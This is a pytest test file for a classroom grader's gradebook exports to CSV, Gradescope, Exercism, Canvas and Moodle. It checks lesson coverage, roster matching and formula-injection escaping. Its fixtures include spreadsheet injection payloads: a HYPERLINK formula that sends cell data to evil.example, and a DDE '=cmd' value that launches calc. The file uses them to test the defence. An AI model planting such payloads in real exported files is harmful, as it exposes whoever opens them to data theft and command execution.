"""What the class was given, in the format each LMS imports, with nothing a spreadsheet would run.

A class handed in lesson 01 only; two learners' folders are named like spreadsheet formulas. Every
export covers lesson 01 alone (or the release's lessons, when the key is in the course), and Canvas's
and Moodle's imports are written from a roster and checked against their documented formats.
"""

from __future__ import annotations

import csv
import io
import json

import jsonschema
import pytest
from typer.testing import CliRunner

from classroom import formats
from grader.classroom.batch import discover
from grader.classroom.gradebook import GRADED, Gradebook, Outcome
from grader.classroom.release_key import KEY_NAME, make_key
from grader.cli import app
from grader.lessons import all_lessons

FIRST, SECOND = all_lessons()[:2]
FULL = FIRST.exercise_points + FIRST.quiz.max_score
# One check worth the whole exercise: enough for the per-test formats' points.
REPORT = {
    "exercise": {
        "checks": [
            {
                "title": "all",
                "points": FIRST.exercise_points,
                "max_points": FIRST.exercise_points,
                "passed": True,
                "feedback": "",
            }
        ]
    }
}
HOSTILE = ['=HYPERLINK("https:evil.example?"&A1,"open")', "@SUM(1+1)", "+1", "-2", "\tx"]


@pytest.fixture(scope="module")
def class_db(tmp_path_factory):
    root = tmp_path_factory.mktemp("exports")
    folder = root / "class"
    for name in ["alice", "bob", *HOSTILE]:
        (folder / name).mkdir(parents=True)
        (folder / name / f"{FIRST.slug}.py").write_text("app = None\n")
    jobs, _ = discover([folder])
    assert sorted(job.student for job in jobs) == sorted(["alice", "bob", *HOSTILE])  # ids from folder names
    db = root / "grades.db"
    with Gradebook(str(db)) as book:
        for n, job in enumerate(jobs):
            book.record(
                Outcome(
                    job.student,
                    job.source,
                    f"d{n}",
                    GRADED,
                    FIRST.id,
                    "",
                    FIRST.exercise_points,
                    FIRST.exercise_points,
                    n % 3,
                    FIRST.quiz.max_score,
                    report=REPORT,
                )
            )
    roster = root / "roster.csv"
    with roster.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(
            ["submission", "name", "canvas_id", "sis_user_id", "sis_login_id", "section", "email", "idnumber"]
        )
        writer.writerow(["alice", "Alice Liddell", "1001", "S-1", "alice", "A", "alice@uni.example", "S-1"])
        writer.writerow(
            ["carol", "Carol", "1003", "S-3", "carol", "A", "carol@uni.example", "S-3"]
        )  # handed nothing in
        for n, name in enumerate(h for h in HOSTILE if "\t" not in h):  # the roster's cells are stripped
            writer.writerow([name, name, str(2000 + n), "", "", "=cmd|' /C calc'!A0", f"s{n}@uni.example", f"@id{n}"])
    return {"db": str(db), "roster": roster, "root": root}


def run(*args: str) -> tuple[str, str]:
    done = CliRunner().invoke(app, ["export", *args])
    assert done.exit_code == 0, done.output
    return done.stdout, done.stderr


def test_exports_cover_the_lessons_handed_in_and_say_so(class_db, tmp_path):
    text, said = run("csv", "--db", class_db["db"])
    assert csv.reader(io.StringIO(text)).__next__() == [
        "student",
        f"{FIRST.slug} exercise",
        f"{FIRST.slug} quiz",
        "total",
    ]
    assert f"Lessons: {FIRST.slug} (the lessons with results" in said
    run("gradescope", "--db", class_db["db"], "--out", str(tmp_path / "gs"))
    run("exercism", "--db", class_db["db"], "--out", str(tmp_path / "ex"))
    alice_gs = json.loads((tmp_path / "gs" / "alice" / "results.json").read_text())
    jsonschema.validate(alice_gs, formats.GRADESCOPE)
    assert f"{FIRST.slug}: " in alice_gs["output"] and "not submitted" not in alice_gs["output"]
    assert not any(f"{lesson.slug}: " in alice_gs["output"] for lesson in all_lessons()[1:])
    alice_ex = json.loads((tmp_path / "ex" / "alice" / "results.json").read_text())
    jsonschema.validate(alice_ex, formats.EXERCISM_V3)
    assert alice_ex["max_score"] == FIRST.exercise_points  # lesson 01's only, not every lesson's
    # --lesson still chooses.
    text, _ = run("csv", "--db", class_db["db"], "--lesson", FIRST.id, "--lesson", SECOND.id)
    assert f"{SECOND.slug} quiz" in text.splitlines()[0]


def test_exports_cover_the_release_s_lessons_when_its_key_is_in_the_course(class_db, monkeypatch):
    course = class_db["root"] / "course"
    course.mkdir(exist_ok=True)
    key = make_key({FIRST.id: FIRST.quiz, SECOND.id: SECOND.quiz}, seed=1)
    key.write(course / KEY_NAME)
    monkeypatch.chdir(course)
    text, said = run("csv", "--db", class_db["db"])
    assert text.splitlines()[0].split(",")[1:-1] == [
        f"{FIRST.slug} exercise",
        f"{FIRST.slug} quiz",
        f"{SECOND.slug} exercise",
        f"{SECOND.slug} quiz",
    ]
    assert f"the lessons of release {key.release}" in said


@pytest.mark.parametrize("kind", ["csv", "canvas", "moodle"])
def test_no_csv_cell_starts_like_a_formula(class_db, kind):
    extra = ["--roster", str(class_db["roster"])] if kind != "csv" else []
    text, _ = run(kind, "--db", class_db["db"], *extra)
    rows = formats.csv_cells(text)
    assert formats.no_formulas(rows) == []
    shown = {cell for row in rows for cell in row}
    expected = {"'@id0", "'@id1"} if kind == "moodle" else {"'" + name for name in HOSTILE if "\t" not in name}
    assert expected <= shown  # kept readable, one quote ahead (a tab is stored as an escape, `\\t`)


def test_canvas_import_from_the_roster(class_db):
    text, said = run("canvas", "--db", class_db["db"], "--roster", str(class_db["roster"]))
    assert formats.canvas_problems(text) == []
    rows = formats.csv_cells(text)
    assert rows[0] == [*formats.CANVAS_FIXED, FIRST.slug]
    assert rows[1] == ["Points Possible", "", "", "", "", str(FULL)]
    alice = next(row for row in rows if row[0] == "Alice Liddell")
    assert alice[1:5] == ["1001", "S-1", "alice", "A"] and FIRST.exercise_points <= int(alice[5]) <= FULL
    assert "carol" not in text and "bob" not in text
    assert "in the roster, with no submission: carol" in said
    assert "not in the roster (left out of the file):" in said and "bob" in said.split("not in the roster")[1]


def test_moodle_import_from_the_roster(class_db):
    text, said = run("moodle", "--db", class_db["db"], "--roster", str(class_db["roster"]))
    assert formats.moodle_problems(text) == []
    rows = formats.csv_cells(text)
    assert rows[0] == ["email", "idnumber", FIRST.slug]
    alice = next(row for row in rows if row[0] == "alice@uni.example")
    assert alice[1] == "S-1" and FIRST.exercise_points <= int(alice[2]) <= FULL
    assert "carol" in said and "bob" in said


def test_the_validators_catch_what_an_import_would_refuse():
    good_canvas = "Student,ID,SIS User ID,SIS Login ID,Section,01\nPoints Possible,,,,,30\nA,1,,,,3\n"
    assert formats.canvas_problems(good_canvas) == []
    assert formats.canvas_problems("student,01\nA,3\n")  # folder ids, not Canvas's columns
    assert formats.canvas_problems(good_canvas.replace("A,1,,,,3", "A,,,,,3"))  # nothing to match by
    assert formats.canvas_problems(good_canvas.replace("A,1", "=A1,1"))  # a formula
    good_moodle = "email,01\na@x,3\n"
    assert formats.moodle_problems(good_moodle) == []
    assert formats.moodle_problems("student,01\na,3\n")  # no identifier Moodle maps
    assert formats.moodle_problems(
        good_moodle + "Points Possible,30\n".replace("Points Possible", "")
    )  # a row with no user


def test_canvas_and_moodle_need_a_roster(class_db):
    done = CliRunner().invoke(app, ["export", "canvas", "--db", class_db["db"]])
    assert done.exit_code == 2 and "--roster" in done.output
